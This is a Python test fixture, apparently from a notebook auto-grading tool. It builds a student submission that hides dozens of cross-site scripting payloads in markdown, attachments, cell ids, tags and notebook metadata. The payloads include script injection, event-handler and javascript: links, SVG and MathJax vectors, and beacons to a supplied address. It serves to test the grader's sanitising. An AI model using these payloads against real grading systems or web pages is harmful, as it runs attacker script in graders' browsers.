"""What a student may write to run a program in the browser of the person who grades it."""

import base64
import json

import small_course
from nbformat.v4 import new_code_cell, new_markdown_cell

# A picture of one pixel, which a browser can show.
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
WRITTEN = "written_why"
QUIET = """
## What I found

| words | share |
|-------|------:|
| rare  | *1 %* |

The sum $x_1 < x_2$ is **small**, see `double` and ![a pasted plot](attachment:plot.png).

```python
total = 1 + 2
```
"""


def payloads(address):
    """Return HTML and Markdown, each of which calls an address or sets `window.hit`."""
    call = f"window.hit=1;new Image().src='{address}/script'"
    quoted = call.replace("'", "&#39;")
    encoded = base64.b64encode(f"<script>{call}</script>".encode()).decode()
    return [
        f"<script>{call}</script>",
        f"<SCRIPT/x>{call}</SCRIPT>",
        f"<scr<script>ipt>{call}</scr</script>ipt>",
        f'<script type="text/x-mathjax-config">{call}</script>',
        f'<script src="{address}/source"></script>',
        f'<img src=x onerror="{quoted}">',
        f'<img src="{address}/picture">',
        f"![from elsewhere]({address}/markdown-picture)",
        f'<img srcset="{address}/set 1x">',
        f'<picture><source srcset="{address}/source-set"><img src=x></picture>',
        f'<svg onload="{quoted}"><script>{call}</script><image href="{address}/svg"/></svg>',
        f'<svg><animate onbegin="{quoted}" attributeName=x dur=1s></svg>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{quoted}"></style></math>',
        f"<noscript><p title=\"</noscript><img src=x onerror='{call}'>\"></noscript>",
        f'<iframe srcdoc="<script>{call}</script>"></iframe>',
        f'<iframe src="{address}/frame"></iframe>',
        f'<object data="{address}/object"></object><embed src="{address}/embed">',
        f'<video src="{address}/video" autoplay></video><audio src="{address}/audio" autoplay>',
        f"<style>@import '{address}/import'; body {{ background: url({address}/style) }}</style>",
        f'<link rel="stylesheet" href="{address}/sheet"><link rel="prefetch" href="{address}/pre">',
        f'<meta http-equiv="refresh" content="0;url={address}/refresh">',
        f'<base href="{address}/">',
        f'<form action="{address}/form"><input name=a autofocus onfocus="{quoted}"></form>',
        f'<body onload="{quoted}" background="{address}/background">',
        f'<div style="background:url({address}/div)" onmouseover="{quoted}">div</div>',
        f'<p style="cursor:url({address}/cursor),auto;position:fixed;inset:0">over all</p>',
        f'<details open ontoggle="{quoted}"><summary>fold</summary></details>',
        f'<a class="click" href="javascript:{quoted}">one</a>',
        f'<a class="click" href="java&#10;script&colon;{quoted}">two</a>',
        f'<a class="click" href="data:text/html;base64,{encoded}">three</a>',
        f"[four](javascript:{quoted.replace(' ', '%20')})",
        "[five](evil.html)",
        "<javascript:window.hit=1>",
        "![page](attachment:page.html) ![drawing](attachment:drawing.svg)",
        "![missing](attachment:nowhere.png)",
        f'# heading" onclick="{quoted}',
        f"$\\href{{javascript:{call}}}{{x}}$ $\\style{{background:url({address}/tex)}}{{x}}$",
        f"```html\n<script>{call}</script>\n```\n\n```mermaid\n<img src=x onerror={call}>\n```",
        f"<table><td background='{address}/cell'>x<xmp><img src=x onerror='{call}'></xmp>",
        f'<title></title><textarea></textarea><img src=x onerror="{quoted}">',
        f'<!--><img src=x onerror="{quoted}">-->',
        f'<![CDATA[><img src=x onerror="{quoted}">]]>',
        '<h1 id="written_why" name="written_why" class="score">a field of the page</h1>',
    ]


def attachments(address):
    """Return attachments, one of which is a picture."""
    call = f"<script>window.hit=1;new Image().src='{address}/attached'</script>"
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.hit=1'>{call}</svg>"
    encode = lambda text: base64.b64encode(text.encode()).decode()  # noqa: E731
    return {
        "plot.png": {"image/png": PIXEL},
        "page.html": {"text/html": encode(call)},
        "drawing.svg": {"image/svg+xml": encode(drawing)},
        "false.png": {"image/png": encode(call)},
    }


def question():
    """Return the cell of a question that is answered in a student's own words."""
    marks = {"grade": True, "grade_id": WRITTEN, "locked": False, "schema_version": 3}
    marks |= {"solution": True, "task": False, "points": 1}
    return new_markdown_cell("*Your answer goes here.*", id=WRITTEN, metadata={"nbgrader": marks})


def submission(address):
    """Return a right notebook with everything above in every place that exists."""
    written = question()
    written.source = "\n\n".join([QUIET, *payloads(address)])
    written["attachments"] = attachments(address)
    notebook = small_course.notebook(small_course.DOUBLE, small_course.TOTAL)
    shown = [json.dumps(text) for text in payloads(address)]
    loud = "from IPython.display import HTML, Javascript, Latex, Markdown, display\n"
    for text in shown:
        loud += f"display(HTML({text}), Markdown({text}), Latex({text}), Javascript({text}))\n"
        loud += f"print({text})\n"
    own = [new_markdown_cell(text, id=f"m{n}") for n, text in enumerate(payloads(address))]
    for cell in own:
        cell.metadata["tags"] = [f'"><p onclick="{cell.source}']
    own[0]["attachments"] = attachments(address)
    own[0].source += "\n\n![mine](attachment:plot.png)"
    notebook.cells += [written, *own, new_code_cell(loud, id="loud")]
    notebook.cells[-1]["id"] = 'x" onclick="window.hit=1'
    notebook.cells.append(new_code_cell(f"# {payloads(address)[0]}\n1/0", id="raises"))
    notebook.metadata["title"] = f"</title>{payloads(address)[0]}"
    raw = new_markdown_cell(payloads(address)[0], id="raw", metadata={"format": "text/html"})
    raw.cell_type = "raw"
    notebook.cells.append(raw)
    return notebook
